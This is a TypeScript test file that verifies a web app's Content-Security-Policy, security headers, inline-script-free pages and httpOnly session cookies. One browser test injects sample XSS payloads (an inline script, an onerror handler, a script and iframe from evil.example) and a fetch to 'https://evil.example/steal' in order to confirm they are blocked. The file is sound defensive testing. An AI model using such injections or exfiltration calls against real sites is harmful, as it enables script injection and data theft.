// What a page may run, load and be shown in: the policy that goes out with every answer, and a browser that keeps it.
import assert from "node:assert/strict";
import { globSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, test } from "node:test";
import type { Browser } from "playwright-core";
import { programDir } from "#server/config.ts";
import { openBrowser, sit } from "../browser.ts";
import { type Office, openOffice } from "../office.ts";

let office: Office;
let browser: Browser;
before(async () => {
  office = await openOffice();
  browser = await openBrowser();
});
after(async () => {
  await browser?.close();
  await office?.close();
});

const policyOf = (answer: Response): Map<string, string> =>
  new Map(
    (answer.headers.get("content-security-policy") ?? "").split(";").map((part) => {
      const [name = "", ...values] = part.trim().split(" ");
      return [name, values.join(" ")];
    }),
  );

test("every kind of answer carries the policy: page, file, call, refusal", async () => {
  const asset = /src="(\/assets\/[^"]+)"/.exec(await (await fetch(office.address)).text())?.[1] ?? "";
  for (const path of [
    "/",
    "/cases",
    asset,
    "/favicon.svg",
    "/api/health",
    "/api/me",
    "/api/nothing",
    "/nothing.txt",
  ]) {
    const answer = await fetch(office.address + path);
    const policy = policyOf(answer);
    const scripts = policy.get("script-src") ?? policy.get("default-src") ?? "";
    assert.ok(["'self'", "'none'"].includes(scripts), `${path}: ${scripts}`);
    assert.equal(policy.get("frame-ancestors"), "'none'", path);
    assert.equal(policy.get("base-uri"), "'none'", path);
    assert.equal(policy.get("object-src") ?? policy.get("default-src"), "'none'", path);
    assert.equal(answer.headers.get("x-content-type-options"), "nosniff", path);
    assert.equal(answer.headers.get("x-frame-options"), "DENY", path);
    assert.ok(answer.headers.get("referrer-policy"), path);
    await answer.body?.cancel();
  }
});

test("no page that is built holds a script or a handler of its own", () => {
  const dist = join(programDir, "web", "dist");
  const pages = globSync("**/*.html", { cwd: dist });
  assert.ok(pages.length > 0, "no page was built");
  for (const page of pages) {
    const html = readFileSync(join(dist, page), "utf8");
    assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)[^>]*>/i, page);
    assert.doesNotMatch(html, /\son\w+\s*=|javascript:/i, page);
  }
});

test("what is slipped into a page does not run, and nothing leaves for elsewhere", async () => {
  const { page, context } = await sit(browser, office, "wuye.reception");
  const ran = await page.evaluate(async () => {
    const seen: string[] = [];
    addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
    const add = (html: string): void => {
      const holder = document.createElement("div");
      holder.innerHTML = html;
      document.body.append(holder);
    };
    const script = document.createElement("script");
    script.textContent = "window.slipped = 'inline'";
    document.body.append(script);
    add(`<img src="data:," onerror="window.slipped = 'handler'">`);
    const foreign = document.createElement("script");
    foreign.src = "https://evil.example/x.js";
    document.body.append(foreign);
    add(`<iframe src="https://evil.example/"></iframe>`);
    await fetch("https://evil.example/steal").catch(() => undefined);
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { seen, slipped: (globalThis as { slipped?: string }).slipped ?? null };
  });
  assert.equal(ran.slipped, null);
  for (const directive of ["script-src-elem", "script-src-attr", "connect-src", "frame-src"])
    assert.ok(ran.seen.includes(directive), `${directive}: ${ran.seen.join()}`);
  await context.close();
});

test("the session's cookie is out of reach of scripts, and goes nowhere from another site", async () => {
  const { page, context } = await sit(browser, office, "wuye.reception");
  const cookies = (await context.cookies()).filter((c) => c.name.startsWith("shouwen"));
  assert.ok(cookies.length > 0);
  for (const cookie of cookies) {
    assert.equal(cookie.httpOnly, true, cookie.name);
    assert.equal(cookie.sameSite, "Lax", cookie.name);
  }
  assert.equal(await page.evaluate(() => document.cookie.includes("session")), false);
  await context.close();
});
